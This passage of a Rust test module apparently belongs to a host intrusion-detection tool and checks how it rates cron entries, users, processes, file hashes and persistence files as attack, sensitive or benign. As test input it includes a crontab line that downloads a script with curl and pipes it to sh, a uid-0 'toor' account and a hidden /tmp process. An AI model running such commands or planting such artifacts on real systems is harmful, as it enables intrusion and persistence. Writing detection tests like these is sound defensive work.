        let app = assess(QueryKind::FileHashes, &row(&[("path", "/opt/app/bin/server")]), FindingKind::Changed);
        assert_eq!(app.severity, 1.0);
    }

    #[test]
    fn relevance_says_what_prevalence_and_cohorts_may_do() {
        let rel = |kind: QueryKind, pairs: &[(&str, &str)], f: FindingKind| assess(kind, &row(pairs), f).relevance;
        use Relevance::*;
        // Patterns of attack.
        assert_eq!(
            rel(QueryKind::Crontab, &[("command", "curl -fsSL http://198.51.100.7/x.sh | sh")], FindingKind::Rare),
            Attack
        );
        assert_eq!(rel(QueryKind::Users, &[("username", "toor"), ("uid", "0")], FindingKind::Rare), Attack);
        assert_eq!(
            rel(QueryKind::Processes, &[("path", "/tmp/.x/agent"), ("name", "agent")], FindingKind::Rare),
            Attack
        );
        let tampered = [("path", "/usr/sbin/sshd"), ("package_check", "mismatch")];
        assert_eq!(rel(QueryKind::FileHashes, &tampered, FindingKind::Rare), Attack, "at any kind of finding");
        // Sensitive: a deploy may, an attacker wants.
        assert_eq!(rel(QueryKind::AuthorizedKeys, &[("uid", "0"), ("username", "root")], FindingKind::Rare), Sensitive);
        assert_eq!(
            rel(QueryKind::AuthorizedKeys, &[("uid", "1000"), ("username", "ec2-user")], FindingKind::Rare),
            Sensitive
        );
        assert_eq!(rel(QueryKind::KernelModules, &[("name", "crc_tune")], FindingKind::Rare), Sensitive);
        assert_eq!(
            rel(
                QueryKind::Users,
                &[("username", "deploy2"), ("uid", "1002"), ("shell", "/bin/bash")],
                FindingKind::Rare
            ),
            Sensitive
        );
        assert_eq!(
            rel(
                QueryKind::ListeningPorts,
                &[("name", "php"), ("path", "/usr/bin/php8.2"), ("port", "8888")],
                FindingKind::Rare
            ),
            Sensitive
        );
        assert_eq!(rel(QueryKind::FileHashes, &[("path", "/usr/sbin/sshd")], FindingKind::Changed), Sensitive);
        assert_eq!(
            rel(
                QueryKind::Persistence,
                &[("path", "/etc/sudoers.d/90-ops"), ("content", "ops ALL=(ALL) ALL")],
                FindingKind::Rare
            ),
            Sensitive
        );
        assert_eq!(
            rel(
                QueryKind::Persistence,
                &[("path", "/etc/pam.d/sshd"), ("content", "auth required pam_unix.so")],
                FindingKind::Rare
            ),
            Sensitive
        );
        // Nothing a deploy does not do.
        assert_eq!(rel(QueryKind::KernelModules, &[("name", "ixgbevf")], FindingKind::Rare), None, "a NIC driver");
        assert_eq!(rel(QueryKind::KernelModules, &[("name", "xt_conntrack")], FindingKind::Rare), None);
        assert_eq!(
            rel(QueryKind::ListeningPorts, &[("name", "envoy"), ("path", "/usr/local/bin/envoy")], FindingKind::Rare),
            None
        );
        assert_eq!(
            rel(
                QueryKind::Users,
                &[("username", "envoy"), ("uid", "992"), ("shell", "/usr/sbin/nologin")],
                FindingKind::Rare
            ),
            None
        );
        let upgraded = [("path", "/usr/bin/curl"), ("package_check", "ok")];
        assert_eq!(rel(QueryKind::FileHashes, &upgraded, FindingKind::Changed), None, "another version of its package");
        assert_eq!(
            rel(
                QueryKind::Persistence,
                &[("path", "/etc/systemd/system/envoy.service"), ("content", "ExecStart=/usr/local/bin/envoy")],
                FindingKind::Rare
            ),
            None
        );
        assert_eq!(
            rel(QueryKind::Processes, &[("path", "/usr/sbin/nginx (deleted)"), ("name", "nginx")], FindingKind::Rare),
            None,
            "an upgrade not yet restarted"
        );
        assert_eq!(
            rel(
                QueryKind::TempFiles,
                &[("path", "/tmp/jna-1/jna2.tmp"), ("kind", "file"), ("mode", "755")],
                FindingKind::Rare
            ),
            None
        );
        assert!(disowned(QueryKind::FileHashes, &row(&tampered)));
        assert!(!disowned(QueryKind::FileHashes, &row(&upgraded)));
    }

    #[test]
    fn missing_agents() {
        let a =
            assess(QueryKind::Processes, &row(&[("name", "auditd"), ("path", "/sbin/auditd")]), FindingKind::Missing);
        assert_eq!(a.severity, 4.0);
        let b =
            assess(QueryKind::Processes, &row(&[("name", "cron"), ("path", "/usr/sbin/cron")]), FindingKind::Missing);
        assert_eq!(b.severity, 1.0);
    }
}
